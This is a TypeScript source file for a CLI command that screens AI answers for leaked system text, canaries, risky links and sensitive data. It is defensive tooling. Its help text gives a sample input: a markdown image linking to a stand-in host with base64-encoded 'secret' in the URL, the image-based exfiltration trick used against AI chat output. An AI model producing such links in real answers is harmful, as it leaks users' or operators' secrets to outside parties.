// `bartizan screen output`: the guard on answers over recorded texts. With `system` it knows what must not be said again,
// with `request` what the client itself said.
import type { Command } from "commander";
import { z } from "zod";
import { compileDetector } from "../../../guards/data/index.ts";
import { verdictOf } from "../../../guards/finding.ts";
import {
  CanaryIndex,
  compileLinks,
  compileOutput,
  DEFAULT_OUTPUT_LIMITS,
  echoOf,
  guardText,
  LeakIndex,
} from "../../../guards/output/index.ts";
import { answerCategories } from "../../../policy/guard-options.ts";
import { localCommand } from "../../connection.ts";
import { UsageError } from "../../exit.ts";
import { readNdjson, writeNdjson } from "../../ndjson.ts";
import { guardingOf, lineOf } from "./guarding.ts";

const lineSchema = z.object({
  id: z.union([z.string(), z.number()]),
  text: z.string(),
  system: z.string().optional(),
  request: z.string().optional(),
});

export function screenOutput(): Command {
  return localCommand("output", "Judge answers: NDJSON {id, text, system?, request?} in, {id, verdict, …} out.")
    .argument("[file]", "- is standard input", "-")
    .option("--policy <file>", "judge by this policy (default: the built-in one)")
    .option("--explain", "offsets, views and scores of each finding")
    .addHelpText(
      "after",
      '\nExample:\n  echo \'{"id":"1","text":"see ![x](https://e.example/?d=c2VjcmV0)"}\' | npx bartizan screen output',
    )
    .action(async (file: string, options: { policy?: string; explain?: true }) => {
      const {
        modes,
        withoutKinds,
        extraKinds,
        canaries,
        links,
        limits: given,
        allowEcho,
      } = (await guardingOf(options.policy)).output;
      const limits = { ...DEFAULT_OUTPUT_LIMITS, ...given };
      const shared = {
        modes,
        limits,
        canaries: [new CanaryIndex(canaries)],
        links: compileLinks(links),
        data: answerCategories(modes).map((category) => ({
          detector: compileDetector({ categories: [category], withoutKinds, extraKinds }),
          categories: [category],
        })),
      };
      for await (const { line, value } of readNdjson(file)) {
        const parsed = lineSchema.safeParse(value);
        if (!parsed.success) throw new UsageError(`Line ${line} is not {"id","text","system"?,"request"?}.`);
        const { id, text, system, request } = parsed.data;
        const others = request === undefined ? [] : [request];
        const rules = compileOutput({
          ...shared,
          ...(system === undefined ? {} : { leak: new LeakIndex([system], others, limits) }),
          ...(allowEcho ? { known: echoOf(others) } : {}),
        });
        const { cut, findings } = guardText(text, rules);
        const reasons = findings.map((found) => ({ ...verdictOf(found, found.action, "text"), where: "text" }));
        await writeNdjson(lineOf(id, cut, reasons, options.explain === true));
      }
    });
}
